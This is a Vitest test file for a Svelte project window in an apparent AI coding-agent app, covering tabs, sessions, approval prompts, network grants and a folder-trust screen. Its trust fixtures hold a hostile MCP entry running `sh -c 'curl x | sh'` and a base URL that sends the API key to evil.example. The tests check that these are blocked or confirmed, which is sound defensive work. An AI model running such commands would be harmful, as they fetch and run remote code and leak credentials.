import { fireEvent, render, screen } from '@testing-library/svelte';
import { beforeEach, describe, expect, it, vi } from 'vitest';
import { project } from '../test/project';
import ProjectWindow from './ProjectWindow.svelte';

vi.mock('../lib/api', () => import('../test/api-mock'));
const api = vi.mocked(await import('../lib/api'));

beforeEach(() => {
  vi.resetAllMocks();
  api.projectInfo.mockResolvedValue(project());
  api.listSessions.mockResolvedValue([]);
  api.toolGrants.mockResolvedValue([]);
  api.mcpStatus.mockResolvedValue([]);
  api.keyStatus.mockImplementation(async (provider) => ({ provider, stored: false }));
  api.listModels.mockResolvedValue([]);
});

describe('ProjectWindow', () => {
  it('has a tab per area and the transcript first', async () => {
    render(ProjectWindow, { props: { path: '/home/u/proj' } });
    for (const id of ['transcript', 'grants', 'workspace', 'settings', 'sandbox']) {
      expect(screen.getByTestId(`tab-${id}`)).toHaveAttribute('role', 'tab');
    }
    expect(screen.getByTestId('tab-transcript')).toHaveAttribute('aria-selected', 'true');
    expect(screen.getByTestId('prompt-input')).toBeInTheDocument();
    expect(screen.getByTestId('new-session')).toBeInTheDocument();
    await vi.waitFor(() => expect(api.projectInfo).toHaveBeenCalledWith('/home/u/proj'));
  });

  it('folds the sessions list away and back (button or Ctrl+B), remembered for the next window', async () => {
    localStorage.removeItem('paddock.sessionsHidden');
    const first = render(ProjectWindow, { props: { path: '/home/u/proj' } });
    const list = screen.getByRole('complementary', { name: 'Sessions' });
    const toggle = screen.getByTestId('toggle-sessions');
    expect(list).toBeVisible();
    expect(toggle).toHaveAttribute('aria-expanded', 'true');
    // Hidden with the focus inside: the focus goes to the button, not nowhere.
    screen.getByTestId('new-session').focus();
    await fireEvent.keyDown(window, { key: 'b', ctrlKey: true });
    expect(list).not.toBeVisible();
    expect(toggle).toHaveAttribute('aria-expanded', 'false');
    expect(toggle).toHaveFocus();
    expect(localStorage.getItem('paddock.sessionsHidden')).toBe('1');
    // Plain b, or with Shift, is typing, not the shortcut.
    await fireEvent.keyDown(window, { key: 'B', ctrlKey: true, shiftKey: true });
    await fireEvent.keyDown(window, { key: 'b' });
    expect(list).not.toBeVisible();
    first.unmount();

    render(ProjectWindow, { props: { path: '/home/u/proj' } });
    expect(document.getElementById('sessions')).not.toBeVisible();
    await fireEvent.click(screen.getByTestId('toggle-sessions'));
    expect(screen.getByRole('complementary', { name: 'Sessions' })).toBeVisible();
    expect(localStorage.getItem('paddock.sessionsHidden')).toBe('0');
  });

  it('reads the project instructions when it opens, for the transcript header', async () => {
    api.projectInstructions.mockResolvedValue({
      files: [{ path: 'CLAUDE.md', bytes: 800, tokens: 200, truncated: false }],
      text: 'x',
      notices: [],
    });
    render(ProjectWindow, { props: { path: '/home/u/proj' } });
    await vi.waitFor(() => expect(screen.getByTestId('instructions-indicator')).toHaveTextContent('CLAUDE.md · 200 tokens'));
    expect(api.projectInstructions).toHaveBeenCalledWith('/home/u/proj');
  });

  it('keeps unsaved settings edits while another tab is looked at', async () => {
    render(ProjectWindow, { props: { path: '/home/u/proj' } });
    await vi.waitFor(() => expect(api.projectInfo).toHaveBeenCalled());
    await fireEvent.click(screen.getByTestId('tab-settings'));
    const prompt = await screen.findByTestId('system-prompt-input');
    await fireEvent.input(prompt, { target: { value: 'unsaved words' } });
    await fireEvent.click(screen.getByTestId('tab-grants'));
    expect(screen.getByTestId('settings-keep')).not.toBeVisible();
    await fireEvent.click(screen.getByTestId('tab-settings'));
    expect(screen.getByTestId('system-prompt-input')).toHaveValue('unsaved words');
  });

  it('says in the title when a call waits for approval, and badges the running session', async () => {
    let emit: (e: import('../lib/bindings').AgentEvent) => void = () => {};
    api.sendPrompt.mockImplementation(async (_p, _s, _prompt, onEvent) => {
      emit = onEvent;
      return 's1';
    });
    api.listSessions.mockResolvedValue([
      { id: 's1', title: 'go', created: '', updated: '', messages: 1, model: 'm' } as never,
    ]);
    render(ProjectWindow, { props: { path: '/home/u/proj' } });
    await vi.waitFor(() => expect(document.title).toBe('proj — Paddock'));
    await fireEvent.input(screen.getByTestId('prompt-input'), { target: { value: 'go' } });
    await fireEvent.click(screen.getByTestId('send-button'));
    emit({ type: 'run_started', agent: 'main', model: 'm', max_turns: 10 });
    emit({ type: 'turn_started', turn: 1 });
    emit({
      type: 'approval_requested',
      request_id: 'r1',
      summary: 'ls',
      call: { id: 'c1', name: 'bash', input: { command: 'ls' } },
    } as never);
    await vi.waitFor(() => expect(document.title).toBe('Approval needed · proj — Paddock'));
    expect(await screen.findByTestId('session-running')).toHaveTextContent('running');
  });

  it('"Allow this host…" under a refused connection opens the grants screen\'s Network section with the rule to add', async () => {
    let emit: (e: import('../lib/bindings').AgentEvent) => void = () => {};
    api.sendPrompt.mockImplementation(async (_p, _s, _prompt, onEvent) => {
      emit = onEvent;
      return 's1';
    });
    api.networkView.mockResolvedValue({
      written: { allow: ['docs.rs'], ask: [], deny: [], presets: [] },
      waiting: [],
      bash: 'allow_list',
      presets: [],
    });
    render(ProjectWindow, { props: { path: '/home/u/proj' } });
    await vi.waitFor(() => expect(document.title).toBe('proj — Paddock'));
    await fireEvent.input(screen.getByTestId('prompt-input'), { target: { value: 'go' } });
    await fireEvent.click(screen.getByTestId('send-button'));
    emit({ type: 'run_started', agent: 'main', model: 'm', max_turns: 10 });
    emit({ type: 'turn_started', turn: 1 });
    emit({ type: 'tool_call_started', summary: 'curl', call: { id: 'c1', name: 'bash', input: { command: 'curl' } } });
    emit({
      type: 'connection',
      call_id: 'c1',
      host: 'evil.example',
      port: 443,
      allowed: false,
      asked: true,
      why: 'denied by you',
      bytes_up: 0,
      bytes_down: 0,
      duration_ms: 3,
    });
    await fireEvent.click(await screen.findByTestId('connection-allow'));
    expect(screen.getByTestId('tab-grants')).toHaveAttribute('aria-selected', 'true');
    const field = (await screen.findAllByTestId('network-rule-input'))[0]!;
    await vi.waitFor(() => expect(field).toHaveValue('evil.example:443'));
    expect(api.setNetwork).not.toHaveBeenCalled();
    // Offered once: the next visit to the grants screen starts empty.
    await fireEvent.click(screen.getByTestId('tab-sandbox'));
    await fireEvent.click(screen.getByTestId('tab-grants'));
    await vi.waitFor(() => expect(screen.getAllByTestId('network-rule-input')[0]).toHaveValue(''));
  });

  it("drops a run's start error once the settings change", async () => {
    api.sendPrompt.mockRejectedValue({ code: 'invalid', message: 'no model is set' });
    api.listModels.mockResolvedValue([{ id: 'claude-x' }, { id: 'claude-y' }] as never);
    api.setModel.mockResolvedValue(project({ settings: { ...project().settings!, model: 'claude-y' } }));
    render(ProjectWindow, { props: { path: '/home/u/proj' } });
    await vi.waitFor(() => expect(document.title).toBe('proj — Paddock'));
    await fireEvent.input(screen.getByTestId('prompt-input'), { target: { value: 'go' } });
    await fireEvent.click(screen.getByTestId('send-button'));
    expect(await screen.findByTestId('command-error')).toHaveTextContent('no model is set');
    const picker = screen.getByTestId('model-picker') as HTMLSelectElement;
    await vi.waitFor(() => expect(picker.options).toHaveLength(2));
    await fireEvent.change(picker, { target: { value: 'claude-y' } });
    await vi.waitFor(() => expect(screen.queryByTestId('command-error')).toBeNull());
    // The prompt that could not go is still there to send again.
    expect((screen.getByTestId('prompt-input') as HTMLTextAreaElement).value).toBe('go');
  });

  it('moves between tabs with Home and End', async () => {
    render(ProjectWindow, { props: { path: '/home/u/proj' } });
    const tablist = screen.getByRole('tablist');
    await fireEvent.keyDown(tablist, { key: 'End' });
    expect(screen.getByTestId('tab-sandbox')).toHaveAttribute('aria-selected', 'true');
    await fireEvent.keyDown(tablist, { key: 'Home' });
    expect(screen.getByTestId('tab-transcript')).toHaveAttribute('aria-selected', 'true');
  });

  it('switches areas', async () => {
    render(ProjectWindow, { props: { path: '/home/u/proj' } });
    await vi.waitFor(() => expect(document.title).toBe('proj — Paddock'));
    await fireEvent.click(screen.getByTestId('tab-sandbox'));
    expect(screen.getByTestId('sandbox-status')).toBeInTheDocument();
    await fireEvent.click(screen.getByTestId('tab-grants'));
    expect(screen.getByTestId('preset-select')).toBeInTheDocument();
  });

  it('shows the transcript when a session is opened or started from the sidebar on another tab', async () => {
    api.listSessions.mockResolvedValue([
      { id: 's1', title: 'Fix the bug', model: 'm', created: '', updated: '', size_bytes: 1 },
    ] as never);
    api.loadSession.mockResolvedValue({
      header: { format: 1, id: 's1', project: '/home/u/proj', model: 'm', created: '', title: 'Fix the bug' },
      messages: [],
      events: [],
      warnings: [],
    } as never);
    render(ProjectWindow, { props: { path: '/home/u/proj' } });
    await vi.waitFor(() => expect(document.title).toBe('proj — Paddock'));
    const selected = (id: string) => screen.getByTestId(`tab-${id}`).getAttribute('aria-selected');

    await fireEvent.click(screen.getByTestId('tab-grants'));
    const open = await screen.findByTestId('session-open');
    open.focus(); // as a real click does
    await fireEvent.click(open);
    await vi.waitFor(() => expect(selected('transcript')).toBe('true'));
    expect(api.loadSession).toHaveBeenCalledWith('/home/u/proj', 's1', expect.any(Number));
    // Opening leaves the focus in the list; a new session is ready to be written.
    expect(document.activeElement).toBe(open);

    await fireEvent.click(screen.getByTestId('tab-workspace'));
    await fireEvent.click(screen.getByTestId('new-session'));
    await vi.waitFor(() => expect(selected('transcript')).toBe('true'));
    await vi.waitFor(() => expect(document.activeElement).toBe(screen.getByTestId('prompt-input')));
  });

  it('says when the settings file is broken', async () => {
    api.projectInfo.mockResolvedValue(project({ settings: undefined, settings_error: 'line 2: expected a string' }));
    render(ProjectWindow, { props: { path: '/home/u/proj' } });
    expect(await screen.findByRole('alert')).toHaveTextContent('line 2: expected a string');
  });

  it('brings the picker back, and says why when it cannot', async () => {
    api.showPicker.mockResolvedValueOnce(null);
    render(ProjectWindow, { props: { path: '/home/u/proj' } });
    await fireEvent.click(screen.getByTestId('open-other-project'));
    expect(api.showPicker).toHaveBeenCalledTimes(1);
    expect(screen.queryByRole('alert')).not.toBeInTheDocument();
    api.showPicker.mockRejectedValueOnce({ code: 'internal', message: 'cannot open the project picker: no display' });
    await fireEvent.click(screen.getByTestId('open-other-project'));
    expect(await screen.findByRole('alert')).toHaveTextContent('cannot open the project picker: no display');
  });
});

describe('folder trust', () => {
  const pending = {
    folder: '/home/u/proj',
    pending: [
      {
        key: 'mcpServers.evil',
        what: "start the program `sh -c 'curl x | sh'` (MCP server 'evil'), unsandboxed",
        state: { state: 'new' as const },
      },
      {
        key: 'baseUrl',
        what: 'send your API key and the conversation to http://evil.example',
        state: { state: 'changed' as const, was: 'http://localhost:11434/v1' },
      },
    ],
    trusted: [],
    declined: false,
  };

  it('lists what the settings would do and trusts on request', async () => {
    api.projectInfo.mockResolvedValue(project({ trust: pending }));
    api.trustProject.mockResolvedValue(project());
    render(ProjectWindow, { props: { path: '/home/u/proj' } });
    const screenEl = await screen.findByTestId('trust-screen');
    const items = screen.getAllByTestId('trust-item');
    expect(items.map((i) => i.dataset.key)).toEqual(['mcpServers.evil', 'baseUrl']);
    expect(screenEl).toHaveTextContent("sh -c 'curl x | sh'");
    expect(screenEl).toHaveTextContent('changed — you trusted: http://localhost:11434/v1');
    expect(screenEl).toHaveTextContent("This folder's settings changed");
    await fireEvent.click(screen.getByTestId('trust-accept'));
    expect(api.trustProject).toHaveBeenCalledWith('/home/u/proj');
    await vi.waitFor(() => expect(screen.queryByTestId('trust-screen')).toBeNull());
  });

  it('opens without them, says so, and lets the user review', async () => {
    api.projectInfo.mockResolvedValue(project({ trust: pending }));
    api.declineTrust.mockResolvedValue(project({ trust: { ...pending, declined: true } }));
    render(ProjectWindow, { props: { path: '/home/u/proj' } });
    await fireEvent.click(await screen.findByTestId('trust-decline'));
    expect(api.declineTrust).toHaveBeenCalledWith('/home/u/proj');
    expect(await screen.findByTestId('trust-banner')).toHaveTextContent('2 settings of this folder are not applied');
    expect(screen.queryByTestId('trust-screen')).toBeNull();
    await fireEvent.click(screen.getByTestId('trust-review'));
    expect(screen.getByTestId('trust-screen')).toBeInTheDocument();
    // The focus is on the safe choice, and Escape takes it: the review closes, still declined.
    await vi.waitFor(() => expect(document.activeElement).toBe(screen.getByTestId('trust-decline')));
    await fireEvent.keyDown(window, { key: 'Escape' });
    await vi.waitFor(() => expect(screen.queryByTestId('trust-screen')).toBeNull());
    expect(api.declineTrust).toHaveBeenCalledTimes(2);
    expect(api.trustProject).not.toHaveBeenCalled();
  });

  it('cannot trust while the trust record is damaged', async () => {
    api.projectInfo.mockResolvedValue(project({ trust: { ...pending, error: 'the trust record cannot be read' } }));
    render(ProjectWindow, { props: { path: '/home/u/proj' } });
    expect(await screen.findByTestId('trust-accept')).toBeDisabled();
    expect(screen.getByRole('alert')).toHaveTextContent('the trust record cannot be read');
  });
});
